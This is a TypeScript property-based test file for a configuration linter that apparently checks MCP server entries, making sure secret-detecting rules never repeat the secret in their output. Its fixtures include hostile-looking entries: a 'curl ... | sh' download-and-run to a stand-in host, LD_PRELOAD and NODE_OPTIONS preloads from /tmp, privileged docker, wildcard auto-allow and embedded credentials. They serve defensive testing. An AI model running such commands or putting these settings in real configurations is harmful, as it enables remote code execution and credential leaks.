import * as fc from 'fast-check';
import { expect, test } from 'vitest';
import { configFile, entry } from '../../../domain/example.ts';
import { familyOf } from '../../../domain/rule.ts';
import type { ConfigFileSubject, ConfigSubject, Rule } from '../../../domain/rule.ts';
import { rules } from '../registry.gen.ts';

// Rules about secrets see secrets; what they show must not, wherever the secret stood.

const judged = (rules as readonly Rule[]).filter(({ id }) => familyOf(id) !== 'definition');

/** Everything that the rules would say of a subject. */
function evidenceOf(subject: ConfigSubject | ConfigFileSubject, family: string): string {
  const matches = judged
    .filter(
      ({ id, notApplicable }) =>
        familyOf(id) === family && notApplicable?.(subject as never) === undefined,
    )
    .flatMap(({ detect }) => [...detect(subject as never)]);
  return JSON.stringify(matches);
}

const drawn = fc.stringMatching(/^[A-Z][a-z][0-9][A-Za-z0-9]{25,33}$/);
const secret = fc.oneof(
  drawn.map((word) => `ghp_${word}${word}`),
  drawn.map((word) => `sk-ant-api03-${word}`),
  drawn.map((word) => `xoxb-8273645190-${word}`),
  drawn,
);
/** Places for a secret, each beside something that other rules complain about. */
const entries: readonly ((text: string) => ConfigSubject)[] = [
  (text) =>
    entry({ command: 'npx', args: ['-y', 'notes', '--api-key', text, '/', '--host', '0.0.0.0'] }),
  (text) =>
    entry({
      command: 'npx',
      args: [`--token=${text}`, '--registry', `http://u:${text}@r.example`, 'n'],
    }),
  (text) =>
    entry({
      command: 'sh',
      args: ['-c', `curl -H "Authorization: Bearer ${text}" https://a.example/i | sh`],
    }),
  (text) => entry({ command: 'sh', args: ['-c', `export API_KEY=${text}; ./a && ./b`] }),
  (text) => entry({ command: 'node', args: ['-e', `fetch("https://a.example?api_key=${text}")`] }),
  (text) => entry({ command: 'env', args: [`API_TOKEN=${text}`, 'LD_PRELOAD=/tmp/x', 'notes'] }),
  (text) =>
    entry({ command: 'docker', args: ['run', '--privileged', '-e', `API_TOKEN=${text}`, 'n'] }),
  (text) =>
    entry({ command: 'notes', env: { API_TOKEN: text, DB: `postgres://u:${text}@db.example/x` } }),
  (text) =>
    entry({ command: 'notes', env: { NODE_OPTIONS: `--require /tmp/x --api-key=${text}` } }),
  (text) => entry({ command: 'notes', env: { API_URL: `http://api.example.com/?token=${text}` } }),
  (text) => entry({ url: `http://user:${text}@mcp.example.com/sse?api_key=${text}` }),
  (text) =>
    entry({
      url: 'https://a.example/mcp',
      headers: { Authorization: `Bearer ${text}`, 'X-Api-Key': text },
    }),
  (text) =>
    entry({
      command: 'npx',
      args: ['mcp-remote', 'http://a.example/sse', '--header', `X-Api-Key: ${text}`],
    }),
  (text) => entry({ command: 'notes', oauth: { clientSecret: text }, alwaysAllow: ['*'] }),
  (text) => entry({ command: 'notes', args: [`--token ${text}${' '.repeat(60)}--token ${text}`] }),
  (text) =>
    entry({ command: 'uvx', args: ['--from', `git+https://u:${text}@git.example.com/n`, 'n'] }),
];

test('no rule shows a secret that it was shown', () => {
  fc.assert(
    fc.property(secret, fc.constantFrom(...entries), (text, place) => {
      const subject = place(text);
      const core = text.slice(-16);
      expect(evidenceOf(subject, 'config')).not.toContain(core);
      const file = configFile(
        { mcpServers: { notes: subject.raw } },
        { mode: 0o644, parentMode: 0o755 },
      );
      expect(evidenceOf(file, 'config-file')).not.toContain(core);
    }),
    { numRuns: 1000 },
  );
});

test('each of these places is reported', () => {
  const ids = entries.map((place) => {
    const subject = place('xoxb-8273645190-Ab3dE5gH7jK9mN1pQ2sT4vW6yZ8c');
    return judged.filter(
      ({ detect, id, notApplicable }) =>
        id.startsWith('config/secret') &&
        notApplicable?.(subject as never) === undefined &&
        [...detect(subject as never)].length > 0,
    ).length;
  });
  expect(ids).toEqual(ids.map((count) => Math.max(1, count)));
});
